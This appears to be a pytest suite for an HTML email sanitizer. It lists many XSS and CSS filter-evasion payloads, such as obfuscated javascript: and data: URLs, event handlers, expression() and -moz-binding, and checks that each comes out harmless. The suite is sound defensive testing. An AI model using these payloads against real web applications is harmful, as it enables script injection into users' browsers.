"""The message-HTML sanitizer against XSS and CSS payloads (OWASP's filter-evasion cheat
sheet and friends): what comes out is read back with a separate HTML parser and checked for
a dangerous URL scheme, script, event handler or CSS that loads or runs anything."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.sanitize import sanitize_html

URL_PAYLOADS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="java&#x0D;script:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="&amp;#106;avascript:alert(1)">x</a>',
    '<a href="&#14;  javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="JaVaScRiPt:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src=" data:image/gif;base64,R0lGOD">',
    '<img src="https://tracker.example/pixel.gif">',
    '<img src="//tracker.example/pixel.gif">',
    '<img src="/logout">',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)" src="cid:x">',
    '<img src="x" onerror="alert(1)">',
    '<img """><script>alert(1)</script>">',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<a href="mailto:bob@example.org" onmouseover="alert(1)">m</a>',
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">b</button></form>',
    '<table background="javascript:alert(1)"><tr>'
    '<td background="javascript:alert(1)">t</td></tr></table>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<body onload="alert(1)">b</body>',
    '<div style="x" onclick="alert(1)">d</div>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="jav&#x26;#x09;ascript:alert(1)">x</a>',
]

CSS_PAYLOADS = [
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="width: EXPRESSION(alert(1))">x</div>',
    '<div style="width: expr/**/ession(alert(1))">x</div>',
    '<div style="width: exp\\72 ession(alert(1))">x</div>',
    '<div style="behavior: url(xss.htc)">x</div>',
    '<div style="BEHAVIOR: url(xss.htc)">x</div>',
    '<div style="-moz-binding: url(https://evil.example/xss.xml#xss)">x</div>',
    '<div style="background-image: url(https://tracker.example/bg.png)">x</div>',
    '<div style="background: url(javascript:alert(1))">x</div>',
    '<div style="background-color: url(https://tracker.example/c)">x</div>',
    '<div style="color: red; background:url(&quot;https://tracker.example/q&quot;)">x</div>',
    '<div style="list-style-image: url(https://tracker.example/l)">x</div>',
    '<div style="border-image: url(https://tracker.example/b) 30">x</div>',
    '<div style="width: \\65 xpression(alert(1))">x</div>',
    '<div style="color: u\\72 l(https://tracker.example/e)">x</div>',
    '<div style="font-family: &#39;a&#39;; width: expression(alert(1))">x</div>',
    '<div style="color:red;/*";width:expression(alert(1));*/">x</div>',
    '<div style="width:calc(1px + expression(alert(1)))">x</div>',
    '<div style="color: var(--x, url(https://tracker.example/v))">x</div>',
    '<div style="@import url(https://evil.example/x.css)">x</div>',
    '<p style="color: red; content: url(https://tracker.example/c)">x</p>',
    '<style>@import "https://evil.example/x.css"; body{background:url(https://t.example/)}</style>'
    "<p>after</p>",
    "<style>p{behavior:url(x.htc);-moz-binding:url(x.xml)}</style><p>after</p>",
    '<div style="background:url(cid:logo)">x</div>',
    '<span style="color: red; font-family: &quot;x&quot; ; width: expression(alert(1))">x</span>',
]

_DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "livescript:", "data:")
_CSS_BAD = ("expression(", "url(", "behavior", "-moz-binding", "javascript:", "@import")
_ALLOWED = {"href": ("http", "https", "mailto", "tel"), "src": ("cid",), "cite": ("http", "https")}


class _Reader(HTMLParser):
    """Collects tags and (decoded) attributes of sanitized output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.style_text: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self._in_style = tag == "style"

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.style_text.append(data)


def _as_browser_reads(value: str) -> str:
    return re.sub(r"[\x00-\x20\x7f-\x9f]", "", value).lower()


def _css_as_browser_reads(value: str) -> str:
    text = re.sub(r"/\*.*?\*/", "", value, flags=re.S)
    text = re.sub(r"\\([0-9a-fA-F]{1,6})\s?", lambda m: chr(int(m.group(1), 16)), text)
    text = text.replace("\\", "")
    return re.sub(r"\s+", "", text).lower()


def assert_safe(output: str) -> None:
    reader = _Reader()
    reader.feed(output)
    reader.close()
    for tag, attrs in reader.tags:
        assert tag not in {"script", "style", "iframe", "object", "embed", "form", "svg",
                           "math", "meta", "base", "link", "button", "body"}, output  # fmt: skip
        for name, value in attrs:
            value = value or ""
            assert not name.startswith("on"), output
            assert name not in {"background", "dynsrc", "lowsrc", "formaction", "xlink:href"}
            plain = _as_browser_reads(value)
            if name in _ALLOWED:
                scheme = plain.split(":", 1)[0] if ":" in plain else ""
                assert scheme in _ALLOWED[name], (name, value, output)
            for bad in _DANGEROUS_SCHEMES:
                assert bad not in plain, (name, value, output)
            if name == "style":
                css = _css_as_browser_reads(value)
                for bad in _CSS_BAD:
                    assert bad not in css, (value, output)
                assert "(" not in re.sub(r"(rgba?|hsla?)\([^()]*\)", "", css), output
    assert not reader.style_text, output


@pytest.mark.timeout(30)
@pytest.mark.parametrize("payload", URL_PAYLOADS + CSS_PAYLOADS)
def test_payload_comes_out_harmless(payload: str) -> None:
    assert_safe(sanitize_html(payload))


@pytest.mark.timeout(30)
def test_what_is_safe_is_kept() -> None:
    """The filter is not a blanket: ordinary mail keeps its links, cid images and styles."""
    out = sanitize_html(
        '<p style="color: #333; font: 12px/1.5 Arial, sans-serif; background-color: rgb(1,2,3)">'
        'Hi <a href="HTTPS://example.org/a?b=1">site</a> <a href="mailto:bob@example.org">mail'
        '</a> <a href="tel:+441234">call</a></p><img src="cid:logo@acme" alt="logo">'
        '<blockquote cite="https://example.org/q">quoted</blockquote>'
    )
    assert 'href="HTTPS://example.org/a?b=1"' in out
    assert 'href="mailto:bob@example.org"' in out and 'href="tel:+441234"' in out
    assert 'src="cid:logo@acme"' in out
    assert 'cite="https://example.org/q"' in out
    assert "color:#333" in out and "background-color:rgb(1,2,3)" in out.replace(" ", "")
    assert "font:12px" in out
    assert_safe(out)


@pytest.mark.timeout(30)
def test_style_keeps_the_safe_declarations_around_a_bad_one() -> None:
    out = sanitize_html(
        '<span style="color: red; width: expression(alert(1)); '
        'background-image: url(https://t.example/); text-align: center">x</span>'
    )
    assert "color:red" in out and "text-align:center" in out
    assert "expression" not in out and "url(" not in out and "t.example" not in out


_OBFUSCATIONS = st.sampled_from(["", "\t", "\n", "\r", "&#x09;", "&#10;", "&#x0D;", "\x00"])


@st.composite
def _obfuscated(draw: st.DrawFn) -> str:
    scheme = draw(st.sampled_from(["javascript", "vbscript", "data"]))
    out = []
    for ch in scheme + ":":
        ch = ch.upper() if draw(st.booleans()) else ch
        if draw(st.booleans()):
            ch = draw(st.sampled_from([f"&#{ord(ch)};", f"&#x{ord(ch):x};", f"&#00{ord(ch)}"]))
        out.append(ch + draw(_OBFUSCATIONS))
    lead = draw(st.sampled_from(["", " ", "\x01", "&#14;"]))
    return lead + "".join(out) + "alert(1)"


@pytest.mark.timeout(60)
@settings(max_examples=300, deadline=None)
@given(url=_obfuscated(), attribute=st.sampled_from(["a href", "img src", "blockquote cite"]))
def test_obfuscated_schemes_never_survive(url: str, attribute: str) -> None:
    tag, attr = attribute.split()
    out = sanitize_html(f'<{tag} {attr}="{url}">x</{tag}>')
    assert_safe(out)
    assert f"{attr}=" not in out
